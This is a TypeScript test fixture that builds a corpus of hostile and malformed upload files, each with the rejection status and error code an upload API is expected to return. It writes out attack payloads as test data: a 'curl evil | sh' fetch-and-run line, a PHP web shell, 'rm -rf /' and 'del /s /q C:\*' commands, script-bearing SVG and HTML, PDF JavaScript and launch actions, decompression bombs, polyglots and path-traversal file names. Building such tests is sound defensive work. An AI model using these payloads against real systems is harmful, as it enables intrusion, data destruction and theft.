import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';

/** The EICAR anti-virus test file: harmless, detected as a virus by design. */
export const EICAR = Buffer.from(
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
  'latin1',
);

export interface HostileFile {
  label: string;
  filename: string;
  contentType: string;
  data: Buffer;
  /** What the API must answer, and the field error code for 413/415/422. */
  status: 413 | 415 | 422;
  code?: string;
}

const noise = (width: number, height: number) => {
  const pixels = Buffer.alloc(width * height * 3);
  let seed = 42;
  for (let i = 0; i < pixels.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    pixels[i] = seed >> 16;
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
};

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG whose header declares width×height but carries only a few bytes of pixel data. */
function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    // A megabyte of zero rows compresses to about a kilobyte: the classic bomb.
    pngChunk('IDAT', deflateSync(Buffer.alloc(1024 * 1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Rewrites a JPEG's frame header (SOF0) to declare other dimensions. */
function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  const sof = out.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker');
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/** A minimal ZIP archive with one stored file (local header, central directory, end record). */
export function zipWith(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'latin1');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localSize = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

/** A valid PDF made with pdf-lib, changed by `edit` before saving. */
export async function makePdf(
  edit: (doc: PDFDocument) => void | Promise<void> = () => undefined,
  options: { pages?: number; objectStreams?: boolean } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < (options.pages ?? 1); i++) {
    doc.addPage([200, 200]).drawText(`page ${i + 1}`, { x: 20, y: 100, size: 12 });
  }
  await edit(doc);
  return Buffer.from(await doc.save({ useObjectStreams: options.objectStreams ?? false }));
}

/** A hand-written PDF body (the dictionary of its catalog is given), with a correct-enough trailer. */
function textPdf(catalogExtra: string, trailerExtra = ''): Buffer {
  return Buffer.from(
    `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
trailer << /Root 1 0 R /Size 4 ${trailerExtra} >>
%%EOF
`,
    'latin1',
  );
}

const climbing = '../../../../etc/cron.d/evil.jpg';
const overlong = `${'a'.repeat(4000)}.png`;

/**
 * At least 40 hostile or broken files. Every one must be refused
 * with the status and code listed, and leave nothing behind.
 */
export async function buildAttackCorpus(): Promise<HostileFile[]> {
  const realJpeg = await noise(200, 150).jpeg({ quality: 90 }).toBuffer();
  const realPng = await noise(120, 90).png().toBuffer();
  const realPdf = await makePdf();
  const gif = await noise(16, 16).gif().toBuffer();
  const webp = await noise(16, 16).webp().toBuffer();
  const tiff = await noise(16, 16).tiff().toBuffer();
  const avif = await noise(16, 16).avif().toBuffer();
  const elf = Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
    Buffer.alloc(56),
    Buffer.alloc(200, 0x90),
  ]);
  const pe = Buffer.concat([
    Buffer.from('MZ', 'latin1'),
    Buffer.alloc(58),
    Buffer.from([0x80, 0, 0, 0]),
    Buffer.alloc(64),
    Buffer.from('PE\0\0', 'latin1'),
    Buffer.alloc(300),
  ]);
  const script = (text: string) => Buffer.from(text, 'utf8');
  const svg = script(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/v1/staff/applications")</script></svg>',
  );
  const html = script(
    '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
  );
  const refused = (
    label: string,
    data: Buffer,
    status: HostileFile['status'],
    code: string,
    filename = 'scan.jpg',
    contentType = 'image/jpeg',
  ): HostileFile => ({ label, data, status, code, filename, contentType });
  const T = 'error.file.type';
  const U = 'error.file.unreadable';

  const pdfWith = (edit: (doc: PDFDocument) => void, objectStreams = false) =>
    makePdf(edit, { objectStreams });

  return [
    // Executables and scripts wearing an image's or a PDF's name and declared type
    refused('ELF executable as .jpg', elf, 415, T),
    refused('Windows PE executable as .png', pe, 415, T, 'id.png', 'image/png'),
    refused('PE executable declared as PDF', pe, 415, T, 'proof.pdf', 'application/pdf'),
    refused('shell script as .jpg', script('#!/bin/sh\ncurl evil | sh\n'), 415, T),
    refused('PHP web shell as .jpg', script('<?php system($_GET["c"]); ?>'), 415, T),
    refused(
      'JavaScript as .pdf',
      script('require("child_process").exec("rm -rf /")'),
      415,
      T,
      'a.pdf',
      'application/pdf',
    ),
    refused(
      'batch file as .pdf',
      script('@echo off\r\ndel /s /q C:\\*\r\n'),
      415,
      T,
      'a.pdf',
      'application/pdf',
    ),
    refused(
      'Java class file as .png',
      Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), Buffer.alloc(100)]),
      415,
      T,
      'x.png',
      'image/png',
    ),
    // HTML and SVG with script
    refused('HTML with script as .png', html, 415, T, 'x.png', 'image/png'),
    refused('HTML with script declared text/html', html, 415, T, 'x.html', 'text/html'),
    refused('SVG with script', svg, 415, T, 'x.svg', 'image/svg+xml'),
    refused('SVG with script as .jpg', svg, 415, T),
    refused(
      'XHTML with script as .pdf',
      script(
        `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
      ),
      415,
      T,
      'x.pdf',
      'application/pdf',
    ),
    // Polyglots
    refused('HTML first, JPEG after', Buffer.concat([html, realJpeg]), 415, T),
    refused(
      'HTML first, PDF after',
      Buffer.concat([html, realPdf]),
      415,
      T,
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'GIF + JAR (GIFAR)',
      Buffer.concat([gif, zipWith('Evil.class', Buffer.alloc(64, 1))]),
      415,
      T,
      'x.jpg',
    ),
    refused(
      'PDF with a ZIP appended',
      Buffer.concat([realPdf, zipWith('payload.exe', pe)]),
      422,
      U,
      'p.pdf',
      'application/pdf',
    ),
    // Archives and other formats
    refused('ZIP as .jpg', zipWith('payload.exe', pe), 415, T),
    refused('ZIP as .pdf', zipWith('doc.pdf', realPdf), 415, T, 'a.pdf', 'application/pdf'),
    refused('gzip of a PNG', deflateSync(realPng), 415, T, 'x.png', 'image/png'),
    refused('GIF image', gif, 415, T, 'x.gif', 'image/gif'),
    refused('WebP image', webp, 415, T, 'x.webp', 'image/webp'),
    refused('TIFF image', tiff, 415, T, 'x.tif', 'image/tiff'),
    refused('AVIF image', avif, 415, T, 'x.avif', 'image/avif'),
    refused(
      'RTF document as .pdf',
      script('{\\rtf1\\ansi {\\object\\objemb payload}}'),
      415,
      T,
      'a.pdf',
      'application/pdf',
    ),
    // Truncated and corrupt images
    refused('truncated JPEG', realJpeg.subarray(0, Math.floor(realJpeg.length / 2)), 422, U),
    refused(
      'JPEG header then garbage',
      Buffer.concat([realJpeg.subarray(0, 600), Buffer.alloc(4000, 0x41)]),
      422,
      U,
    ),
    refused(
      'truncated PNG',
      realPng.subarray(0, Math.floor(realPng.length / 2)),
      422,
      U,
      'x.png',
      'image/png',
    ),
    refused(
      'PNG with corrupt pixel data',
      Buffer.concat([
        realPng.subarray(0, 33),
        pngChunk('IDAT', Buffer.alloc(5000, 0x55)),
        pngChunk('IEND', Buffer.alloc(0)),
      ]),
      422,
      U,
      'x.png',
      'image/png',
    ),
    refused('only a JPEG start marker', Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 422, U),
    // Decompression bombs
    refused(
      'PNG declaring 50000×50000',
      pngDeclaring(50_000, 50_000),
      422,
      'error.file.tooManyPixels',
      'x.png',
      'image/png',
    ),
    refused(
      'PNG declaring 7000×6000 (42 MP)',
      pngDeclaring(7000, 6000),
      422,
      'error.file.tooManyPixels',
      'x.png',
      'image/png',
    ),
    refused(
      'JPEG declaring 60000×60000',
      jpegDeclaring(realJpeg, 60_000, 60_000),
      422,
      'error.file.tooManyPixels',
    ),
    refused(
      'real 42-megapixel PNG',
      await sharp({ create: { width: 7000, height: 6000, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
      422,
      'error.file.tooManyPixels',
      'x.png',
      'image/png',
    ),
    // PDFs with JavaScript, launch actions, embedded files, encryption
    refused(
      'PDF with JavaScript open action',
      await pdfWith((doc) =>
        doc.catalog.set(
          PDFName.of('OpenAction'),
          doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
        ),
      ),
      422,
      'error.file.pdfActiveContent',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF with JavaScript inside a compressed object stream',
      await pdfWith(
        (doc) =>
          doc.catalog.set(
            PDFName.of('OpenAction'),
            doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
          ),
        true,
      ),
      422,
      'error.file.pdfActiveContent',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF with escaped /J#61vaScript name',
      textPdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
      422,
      'error.file.pdfActiveContent',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF with a launch action',
      await pdfWith(
        (doc) =>
          doc.catalog.set(
            PDFName.of('OpenAction'),
            doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }),
          ),
        true,
      ),
      422,
      'error.file.pdfActiveContent',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF with an XFA form',
      textPdf('/AcroForm << /Fields [] /XFA (<xdp/>) >>'),
      422,
      'error.file.pdfActiveContent',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF with an embedded file',
      await makePdf(
        async (doc) => doc.attach(pe, 'invoice.exe', { mimeType: 'application/octet-stream' }),
        { objectStreams: true },
      ),
      422,
      'error.file.pdfEmbeddedFiles',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF with RichMedia',
      textPdf('/Names << /RichMedia 9 0 R >>'),
      422,
      'error.file.pdfEmbeddedFiles',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'encrypted PDF',
      textPdf('', '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>'),
      422,
      'error.file.pdfEncrypted',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'encrypted PDF with escaped name',
      textPdf('', '/Encr#79pt << /Filter /Standard /V 2 >>'),
      422,
      'error.file.pdfEncrypted',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF of 21 pages',
      await makePdf(() => undefined, { pages: 21 }),
      422,
      'error.file.tooManyPages',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'truncated PDF',
      realPdf.subarray(0, Math.floor(realPdf.length * 0.6)),
      422,
      U,
      'p.pdf',
      'application/pdf',
    ),
    refused(
      'PDF header then garbage',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(3000, 0x20), Buffer.from('%%EOF\n')]),
      422,
      U,
      'p.pdf',
      'application/pdf',
    ),
    // EICAR (plain text: refused by type when no scanner runs; the scanner test checks 422)
    refused('EICAR test file as .jpg', EICAR, 415, T),
    // Zero bytes and oversize
    refused('zero bytes', Buffer.alloc(0), 422, 'error.file.empty'),
    refused(
      'zero bytes declared as PDF',
      Buffer.alloc(0),
      422,
      'error.file.empty',
      'p.pdf',
      'application/pdf',
    ),
    refused(
      '10 MB + 1 byte JPEG',
      Buffer.concat([realJpeg, Buffer.alloc(10 * 1024 * 1024 + 1 - realJpeg.length)]),
      413,
      'error.file.tooLarge',
    ),
    refused(
      '12 MB PDF',
      Buffer.concat([realPdf, Buffer.alloc(12 * 1024 * 1024)]),
      413,
      'error.file.tooLarge',
      'p.pdf',
      'application/pdf',
    ),
    // Hostile names: the name never matters, the content is judged
    refused('path-climbing name, script content', script('#!/bin/sh\nid\n'), 415, T, climbing),
    refused(
      'path-climbing Windows name',
      html,
      415,
      T,
      '..\\..\\..\\Windows\\System32\\evil.png',
      'image/png',
    ),
    refused('overlong name, HTML content', html, 415, T, overlong, 'image/png'),
    refused('NUL in name, truncated JPEG', realJpeg.subarray(0, 300), 422, U, 'scan.jpg%00.php'),
  ];
}
